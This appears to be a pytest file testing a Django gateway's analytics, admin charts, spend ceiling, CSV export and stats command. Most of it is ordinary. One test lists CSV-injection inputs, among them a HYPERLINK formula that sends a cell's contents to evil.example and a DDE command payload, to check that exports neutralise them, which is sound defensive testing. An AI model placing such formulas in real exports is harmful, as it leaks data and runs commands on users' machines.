"""Gateway analytics: the numbers (quotes.admin.analytics), the admin page and its charts, today's
spend against the ceiling, the CSV export of the request log, and `manage.py gateway_stats`.
Refused requests are no rows: they are counted in `Refusal`, per persona, hour and code."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth.models import Permission, User
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.utils import timezone

from harness.workers_ai import FakeWorkersAI
from quotes.admin import CSV_COLUMNS
from quotes.admin.analytics import gateway_stats, parse_since
from quotes.admin.charts import bar_list, nice_ceiling
from quotes.models import Generation, Persona, Refusal
from quotes.rows import writer
from tests.asgi import post_quote, request

ANALYTICS = "/admin/quotes/generation/analytics/"
EXPORT = "/admin/quotes/generation/export.csv"
DAY = dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
LLAMA, MISTRAL = "@cf/meta/llama-3.1-8b-instruct-fp8", "@cf/mistral/mistral-7b-instruct-v0.1"


def log(persona: Persona, at: dt.datetime, **fields: Any) -> Generation:
    """A log row written at `at` (created_at is auto_now_add, so it is set after creating)."""
    values: dict[str, Any] = {"persona": persona, "backend": "workers-ai", "model": LLAMA, "status": "ok"}
    values |= {"cache_status": "miss", "topic": "tea", "text": "A quote."}
    row = Generation.objects.create(**(values | fields))
    Generation.objects.filter(pk=row.pk).update(created_at=at)
    row.refresh_from_db()
    return row


def at(hour: int, minute: int = 0) -> dt.datetime:
    return DAY + dt.timedelta(hours=hour, minutes=minute)


def used(prompt: int, completion: int, ttft: int, cost: str | None = None) -> dict[str, Any]:
    costs = {} if cost is None else {"cost_usd": Decimal(cost)}
    return {"prompt_tokens": prompt, "completion_tokens": completion, "ttft_ms": ttft, **costs}


@pytest.fixture
def known_log(db: None) -> dict[str, Persona]:
    """Eight rows in 2025-01-01 (UTC), one of them lost (`running` long past the deadline), a
    preview row, two rows just outside the day; 51 refusals in it and 5 outside."""
    watts, ada = Persona.objects.get(slug="alan-watts"), Persona.objects.get(slug="ada-lovelace")
    log(watts, at(1, 10), cache_status="hit", feedback=1, **used(10, 20, 100, "0"))
    log(watts, at(1, 20), **used(10, 30, 200, "0.001"))
    log(watts, at(2), model=MISTRAL, feedback=-1, **used(20, 40, 300, "0.002"))
    log(ada, at(2, 30), model=MISTRAL, status="error", error_code="upstream_error")
    log(ada, at(5), status="running", cache_status="bypass")  # lost
    log(ada, at(5, 10), status="error", cache_status="bypass", error_code="upstream_timeout")
    log(ada, at(5, 20), status="cancelled", error_code="stopped", **used(5, 5, 400))
    log(watts, at(23, 59), cache_status="bypass", **used(10, 10, 500, "0.0005"))
    log(watts, at(3), is_preview=True, **used(1, 1, 10_000))
    log(watts, at(24), ttft_ms=1)  # the range's end is exclusive
    log(watts, at(-1, 59), ttft_ms=1)
    Refusal.objects.create(persona=ada, hour=at(5), code="rate_limited", count=40)
    Refusal.objects.create(persona=watts, hour=at(5), code="over_capacity", count=2)
    Refusal.objects.create(persona=watts, hour=at(24), code="rate_limited", count=5)
    lao_tzu = Persona.objects.get(slug="lao-tzu")  # refused every time: no rows, but its refusals count
    Refusal.objects.create(persona=lao_tzu, hour=at(7), code="over_capacity", count=9)
    return {"watts": watts, "ada": ada}


# --- the numbers --------------------------------------------------------------------------------


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_count_lost_rows_as_errors_and_refusals_apart(known_log: Any) -> None:
    stats = gateway_stats(since=DAY, until=at(24), bucket="hour")

    assert stats.requests == 8
    assert stats.by_status == {"running": 0, "ok": 4, "error": 2, "cancelled": 1, "lost": 1}
    assert (stats.prompt_tokens, stats.completion_tokens, stats.cost_usd) == (55, 105, Decimal("0.0035"))
    assert stats.unpriced == 1  # the cancelled row: tokens, no price
    assert (stats.cache_hits, stats.cache_lookups, stats.hit_rate) == (1, 5, 0.2)
    assert (stats.errors, stats.error_rate) == (3, 0.375)
    assert stats.errors_by_code == [("lost", 1), ("upstream_error", 1), ("upstream_timeout", 1)]
    assert stats.ttft_p50 == 300 and stats.ttft_p95 == pytest.approx(480)  # 400 + 0.8 * (500 - 400)
    assert stats.refused == 51 and stats.refused_by_code == [("rate_limited", 40), ("over_capacity", 11)]

    by_hour = {b.start.hour: b for b in stats.buckets}
    assert [b.start for b in stats.buckets] == [at(h) for h in range(24)]
    assert {h: b.requests for h, b in by_hour.items() if b.requests} == {1: 2, 2: 2, 5: 3, 23: 1}
    hour_1, hour_2 = by_hour[1], by_hour[2]
    assert (hour_1.ttft_p50, hour_1.completion_tokens, hour_2.cost_usd) == (150, 50, Decimal(".002"))
    assert by_hour[5].by_status == {"running": 0, "ok": 0, "error": 1, "cancelled": 1, "lost": 1}
    assert {h: b.refused for h, b in by_hour.items() if b.refused} == {5: 42, 7: 9}
    assert by_hour[3].requests == 0 and by_hour[3].ttft_p50 is None
    daily = gateway_stats(since=at(-24), until=at(48))
    assert daily.bucket == "day"
    days = [(at(-24), 1, 0), (DAY, 8, 51), (at(24), 1, 5)]
    assert [(b.start, b.requests, b.refused) for b in daily.buckets] == days


@pytest.mark.integration
@pytest.mark.services
def test_gateway_stats_breakdowns(known_log: dict[str, Persona]) -> None:
    stats = gateway_stats(since=DAY, until=at(24))

    assert [row.key for row in stats.by_persona] == ["ada-lovelace", "alan-watts", "lao-tzu"]  # most first
    ada, watts, lao_tzu = stats.by_persona
    assert (watts.requests, watts.label, watts.cache_hits, watts.cache_lookups) == (4, "Alan Watts", 1, 3)
    assert (watts.errors, watts.ttft_p50, watts.cost_usd, watts.refused) == (0, 250, Decimal("0.0035"), 2)
    assert (watts.thumbs_up, watts.thumbs_down) == (1, 1)
    assert (ada.requests, ada.errors, ada.ttft_p50, ada.refused) == (4, 3, 400, 40)
    assert (lao_tzu.requests, lao_tzu.errors, lao_tzu.ttft_p50, lao_tzu.refused) == (0, 0, None, 9)
    models = {row.key: row for row in stats.by_model}
    assert {k: r.requests for k, r in models.items()} == {LLAMA: 6, MISTRAL: 2}
    assert models[MISTRAL].ttft_p50 == 300 and models[LLAMA].label == "meta/llama-3.1-8b-instruct-fp8"
    assert models[MISTRAL].label == "mistral/mistral-7b-instruct-v0.1"  # retired: its rows still show

    with_previews = gateway_stats(since=DAY, until=at(24), include_previews=True)
    assert with_previews.requests == 9 and with_previews.ttft_p95 == pytest.approx(500 + 0.75 * 9500)
    empty = gateway_stats(since=at(-48), until=at(-24))
    assert (empty.requests, empty.cost_usd) == (0, 0)
    assert empty.hit_rate is empty.error_rate is empty.ttft_p50 is None


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
async def test_a_real_429_is_counted_in_refusals_not_stored_as_a_row(
    persona: Persona, fake: FakeWorkersAI, settings: Any
) -> None:
    settings.QUOTES_RATE_LIMIT = "1/hour"
    assert (await post_quote()).status == 200
    refused = [await post_quote() for _ in range(3)]
    await writer().flush(5.0)  # the counts are written every few seconds, and at exit

    assert [r.status for r in refused] == [429] * 3
    assert await Generation.objects.acount() == 1
    [count] = [r async for r in Refusal.objects.all()]
    assert (count.persona_id, count.code, count.count) == (persona.pk, "rate_limited", 3)
    now = timezone.now()
    stats = await sync_to_async(gateway_stats)(since=now - dt.timedelta(hours=2), until=now)
    assert (stats.requests, stats.refused, stats.by_persona[0].refused) == (1, 3, 3)


@pytest.mark.unit
def test_parse_since_and_the_charts_helpers() -> None:
    assert parse_since("24h", now=DAY) == at(-24) and parse_since("7d", now=DAY) == at(-24 * 7)
    for bad in ("", "7", "d", "-1d", "1w"):
        with pytest.raises(ValueError, match="is not a span"):
            parse_since(bad, now=DAY)
    assert nice_ceiling(0) == (1.0, 0.25) and nice_ceiling(7) == (8, 2) and nice_ceiling(95) == (100, 25)
    assert nice_ceiling(0.0031) == pytest.approx((0.004, 0.001))
    svg = bar_list(title="Errors <by> code", desc="a & b", rows=[("<script>x</script>", 3)], tone="bar")
    assert "<script>" not in svg and "&lt;script&gt;" in svg and "Errors &lt;by&gt; code" in svg
    assert svg.startswith("<svg") and 'role="img"' in svg


# --- the admin page ---------------------------------------------------------------------------


@pytest.fixture
def recent_log(db: None) -> None:
    watts = Persona.objects.get(slug="alan-watts")
    now = timezone.now()
    for minutes in (10, 20, 30):
        log(watts, now - dt.timedelta(minutes=minutes), prompt_tokens=11, completion_tokens=22, ttft_ms=321)
    log(watts, now - dt.timedelta(minutes=40), status="error", error_code="upstream_timeout")
    log(watts, now - dt.timedelta(days=3), prompt_tokens=1000, completion_tokens=2000, ttft_ms=900)
    hour = now.replace(minute=0, second=0, microsecond=0)
    Refusal.objects.create(persona=watts, hour=hour, code="rate_limited", count=7)


def _kpis(html: str) -> dict[str, str]:
    return dict(re.findall(r'pq-tile__label">([^<]+)</div>\s*<div class="pq-tile__value">([^<]+)<', html))


def _text(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def _rows(html: str, table: str) -> dict[str, list[str]]:
    """A table of the analytics page: each row's heading and its cells' text."""
    body = html.split(f'data-testid="{table}"')[1].split("</table>")[0]
    return {
        _text(heading): [_text(cell) for cell in re.findall(r"<td[^>]*>(.*?)</td>", cells, re.S)]
        for heading, cells in re.findall(r'<th scope="row">(.*?)</th>(.*?)</tr>', body, re.S)
    }


@pytest.mark.integration
@pytest.mark.services
def test_analytics_page_renders_numbers_charts_and_refusals(admin_client: Client, recent_log: None) -> None:
    response = admin_client.get(ANALYTICS)

    assert response.status_code == 200
    html = response.content.decode()
    kpis = _kpis(html)
    assert (kpis["Requests"], kpis["Tokens in / out"]) == ("4", "33 / 66")
    assert (kpis["Error rate"], kpis["TTFT p50 / p95"]) == ("25.0%", "321 / 321 ms")
    assert "7 refused" in html and _rows(html, "by-persona")["Alan Watts alan-watts"][-1] == "7"
    assert html.count("<svg") >= 6 and re.search(r'<svg [^>]*role="img"', html)
    assert (
        "Requests per hour, by status" in html
        and "upstream_timeout" in html
        and "meta/llama-3.1-8b-instruct-fp8" in html
    )
    assert "Refused requests per hour (429, 503)" in html and "rate_limited: 7" in html


@pytest.mark.integration
@pytest.mark.django_db
def test_analytics_page_shows_todays_spend_against_the_ceiling(admin_client: Client, settings: Any) -> None:
    watts = Persona.objects.get(slug="alan-watts")
    log(watts, timezone.now(), cost_usd=Decimal("0.004"))
    log(watts, timezone.now() - dt.timedelta(days=2), cost_usd=Decimal("9"))  # another day

    def spend() -> str:
        html = admin_client.get(ANALYTICS).content.decode()
        return _text(html.split('data-testid="spend"')[1].split("</section>")[0])

    settings.QUOTES_DAILY_SPEND_LIMIT_USD = None
    assert "$0.0040" in spend() and "no daily ceiling is set" in spend()
    settings.QUOTES_DAILY_SPEND_LIMIT_USD = Decimal("0.01")
    assert "$0.0040 of a $0.01 daily ceiling" in spend() and "reached" not in spend()
    settings.QUOTES_DAILY_SPEND_LIMIT_USD = Decimal("0.004")
    assert "reached" in spend()


@pytest.mark.integration
@pytest.mark.django_db
def test_analytics_page_shows_zero_and_tiny_costs_as_sums(admin_client: Client) -> None:
    """A free model's cost reads `$0` and hundredths of a cent keep their digits, on the card, in
    the tables and on the cost chart's axis, whose ticks all differ."""
    now, llama = timezone.now(), "@cf/meta/llama-3.2-1b-instruct"
    watts, ada = Persona.objects.get(slug="alan-watts"), Persona.objects.get(slug="ada-lovelace")
    for minutes, cost in ((5, "0.00001"), (65, "0.00003")):  # two hours' bars
        log(watts, now - dt.timedelta(minutes=minutes), model=llama, cost_usd=Decimal(cost))
    log(ada, now - dt.timedelta(minutes=5), backend="local", model="gemma-3-270m", cost_usd=Decimal(0))

    html = admin_client.get(ANALYTICS).content.decode()

    assert _kpis(html)["Estimated cost"] == "$0.00004"
    persona_cost = {key: cells[5] for key, cells in _rows(html, "by-persona").items()}
    assert persona_cost == {"Alan Watts alan-watts": "$0.00004", "Ada Lovelace ada-lovelace": "$0"}
    assert sorted(cells[5] for cells in _rows(html, "by-model").values()) == ["$0", "$0.00004"]
    chart = html.split("Estimated cost per hour")[1].split("</svg>")[0]
    ticks = re.findall(r'<text class="pq-tick" x="[^"]+" y="[^"]+" text-anchor="end">([^<]+)</text>', chart)
    assert len(ticks) >= 4 and len(set(ticks)) == len(ticks), ticks
    assert ticks[0] == "$0" and all(re.fullmatch(r"\$0\.0*[1-9]\d*", t) for t in ticks[1:]), ticks


@pytest.mark.integration
@pytest.mark.services
def test_analytics_range_filter_changes_the_numbers(admin_client: Client, recent_log: None) -> None:
    def page(**params: str) -> str:
        response = admin_client.get(ANALYTICS, params)
        assert response.status_code == 200 and 'class="errornote' not in response.content.decode()
        return response.content.decode()

    def days(first: int, last: int) -> str:
        today = timezone.localdate()
        start, end = (today - dt.timedelta(days=d) for d in (first, last))
        return page(range="custom", start=start.isoformat(), end=end.isoformat())

    assert _kpis(page(range="7d"))["Requests"] == _kpis(days(3, 0))["Requests"] == "5"
    assert _kpis(days(9, 5))["Requests"] == "0" and "No requests in this range" in days(9, 5)
    assert _kpis(page(range="custom", start="0001-01-01", end="0001-01-02"))["Requests"] == "0"
    # 744 hourly buckets: the time axis draws a few labels per chart, not one per bucket.
    assert 5 <= page(range="30d", bucket="hour").count('class="pq-tick" x=') <= 200


@pytest.mark.integration
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"range": "custom", "start": "2025-02-10", "end": "2025-02-01"}, "ends before it starts"),
        ({"range": "custom", "start": "yesterday", "end": "2025-02-01"}, "Enter a valid date"),
        ({"range": "custom", "start": "2025-02-10"}, "Choose the last day"),
        ({"range": "forever"}, "Select a valid choice"),
        # The last days a date can hold: computing the range's end overflowed (a 500).
        ({"range": "custom", "start": "9999-12-31", "end": "9999-12-31"}, "starts in the future"),
        ({"range": "custom", "start": "2025-01-01", "end": "9999-12-31"}, "at most 366 days"),
    ],
)
def test_analytics_bad_range_is_a_form_error(admin_client: Client, params: Any, message: str) -> None:
    response = admin_client.get(ANALYTICS, params)
    html = response.content.decode()
    assert response.status_code == 200
    assert 'class="errornote' in html and message in html and "pq-tile" not in html


@pytest.mark.integration
def test_analytics_and_export_need_the_logs_view_permission(client: Client, recent_log: None) -> None:
    viewer = User.objects.create_user("viewer", password="viewer-password-123", is_staff=True)
    client.force_login(viewer)
    assert client.get(ANALYTICS).status_code == client.get(EXPORT).status_code == 403
    viewer.user_permissions.add(Permission.objects.get(codename="view_generation"))
    assert client.get(ANALYTICS).status_code == 200
    changelist = client.get("/admin/quotes/generation/", {"status__exact": "error"}).content.decode()
    assert f'href="{ANALYTICS}"' in changelist and f'href="{EXPORT}?status__exact=error"' in changelist


# --- the CSV export -------------------------------------------------------------------------------


def _csv(response: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.integration
def test_csv_export_streams_the_filtered_changelist(admin_client: Client, known_log: Any) -> None:
    response = admin_client.get(EXPORT)

    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="generations-')
    rows = _csv(response)
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 1 + Generation.objects.count()
    assert {row[CSV_COLUMNS.index("status")] for row in rows[1:]} == {"ok", "error", "cancelled", "lost"}

    query = {"status__exact": "error", "q": "quote", "persona__id__exact": known_log["ada"].pk}
    [header, row] = _csv(admin_client.get(EXPORT, query | {"cache_status__exact": "miss"}))
    cells = dict(zip(header, row, strict=True))
    assert (cells["persona"], cells["error_code"]) == ("ada-lovelace", "upstream_error")
    assert cells["prompt_tokens"] == "" and cells["created_at"] == at(2, 30).isoformat()
    previews = _csv(admin_client.get(EXPORT, {"is_preview__exact": "1"}))
    assert len(previews) == 2 and previews[1][CSV_COLUMNS.index("is_preview")] == "true"
    bad = admin_client.get(EXPORT, {"nonsense__exact": "1"})
    assert bad.status_code == 302 and bad["Location"] == "/admin/quotes/generation/?e=1"


#: Written out here, not read from quotes.admin: OWASP's characters and their fullwidth forms.
FORMULA_START = ("=", "+", "-", "@", "|", ";", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c", "\uff1b")


@pytest.mark.integration
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ('=HYPERLINK("https://evil.example/?"&C2,"x")', True),
        ("+SUM(A1:A9)", True),
        ("@SUM(A1:A9)", True),
        ("\t=cmd|' /C calc'!A0", True),  # tab, CR and LF start a formula themselves
        ("\n\t @SUM(A1:A9)", True),  # after blanks, a formula still runs
        ("\xa0 +SUM(A1:A9)", True),
        ("\u3000=1+1", True),
        ("\uff1d1+1", True),  # fullwidth forms
        ("|cmd", True),
        ("rain", False),
        ("a=b", False),
        ("e-mail", False),
        ("-2+3", True),
    ],
)
def test_csv_export_cells_are_never_formulas(admin_client: Client, text: str, formula: bool) -> None:
    """A visitor's topic, or a model's text, that a spreadsheet would run as a formula is exported
    as text (OWASP: prefixed with a single quote); plain text and numbers stay as they are."""
    log(Persona.objects.get(slug="alan-watts"), timezone.now(), topic=text, text=text, feedback=-1)

    [header, row] = _csv(admin_client.get(EXPORT))

    cells = dict(zip(header, row, strict=True))
    expected = "'" + text if formula else text
    assert (cells["topic"], cells["text"], cells["feedback"]) == (expected, expected, "-1")
    for cell in row:
        assert not cell.lstrip().startswith(FORMULA_START) or cell == "-1"
        assert not cell.startswith(("\t", "\r", "\n"))


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
async def test_csv_export_streams_under_asgi(persona: Persona) -> None:
    def setup() -> str:
        for i in range(5):
            log(persona, timezone.now(), topic=f'topic, with "quotes" {i}', text="line one\nline two")
        client = Client()
        client.force_login(User.objects.create_superuser("root", password="root-password-123"))
        return client.cookies["sessionid"].value

    session = await sync_to_async(setup)()
    response = await request("GET", EXPORT, headers={"cookie": f"sessionid={session}"})

    assert response.status == 200
    rows = list(csv.reader(io.StringIO(response.body.decode())))
    assert rows[0] == list(CSV_COLUMNS) and len(rows) == 6
    assert rows[1][CSV_COLUMNS.index("text")] == "line one\nline two"


# --- manage.py gateway_stats -----------------------------------------------------------------------


def stats_command(*args: str) -> str:
    out = io.StringIO()
    call_command("gateway_stats", *args, stdout=out)
    return out.getvalue()


@pytest.mark.integration
def test_gateway_stats_command_prints_the_kpis_and_json(recent_log: None, settings: Any) -> None:
    text = stats_command()
    assert re.search(r"Requests\s+4\b", text) and re.search(r"Error rate\s+25\.0%", text)
    assert re.search(r"TTFT p50 / p95\s+321 / 321 ms", text)
    assert "upstream_timeout" in text and "alan-watts" in text and re.search(r"rate_limited\s+7\b", text)

    data = json.loads(stats_command("--since", "7d", "--json"))
    assert (data["requests"], data["prompt_tokens"], data["completion_tokens"]) == (5, 1033, 2066)
    assert data["error_rate"] == 0.2 and data["ttft_p50"] == 321
    assert data["errors_by_code"] == [{"code": "upstream_timeout", "count": 1}]
    assert data["refused"] == 7 and data["refused_by_code"] == [{"code": "rate_limited", "count": 7}]
    assert data["by_persona"][0]["key"] == "alan-watts" and data["by_persona"][0]["requests"] == 5
    assert data["bucket"] == "day" and len(data["buckets"]) in (7, 8)

    # A dead process's `running` row, past the deadline, is lost; a young one is still streaming.
    watts, deadline = Persona.objects.get(slug="alan-watts"), settings.QUOTES_POLICY.total_timeout_s + 65
    log(watts, timezone.now() - dt.timedelta(seconds=deadline), status="running")
    log(watts, timezone.now() - dt.timedelta(seconds=5), status="running")
    data = json.loads(stats_command("--json"))
    assert (data["by_status"]["lost"], data["by_status"]["running"], data["errors"]) == (1, 1, 2)
    assert {"code": "lost", "count": 1} in data["errors_by_code"]


@pytest.mark.integration
@pytest.mark.parametrize("since", ["soon", "1w", "1000000d", "99999999999999999999h"])
def test_gateway_stats_command_rejects_a_bad_span(since: str) -> None:
    with pytest.raises(CommandError, match=r"is not a span|reaches back further than the calendar"):
        stats_command("--since", since)
